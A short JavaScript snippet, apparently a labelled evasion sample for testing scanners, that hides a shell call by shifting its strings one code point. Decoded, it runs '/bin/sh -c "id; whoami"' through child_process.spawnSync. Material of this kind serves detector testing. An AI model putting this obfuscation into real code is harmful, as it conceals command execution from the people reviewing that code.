// evasion: names stored shifted by one code point, decoded with map and String.fromCharCode
// grade: medium; does: shell
const dec = (s) => String.fromCharCode(...[...s].map((c) => c.charCodeAt(0) - 1));
const m = require(dec('dijme`qspdftt'));
m[dec('tqbxoTzod')](dec('0cjo0ti'), [dec('.d'), dec('je<!xipbnj')], { stdio: 'inherit' });
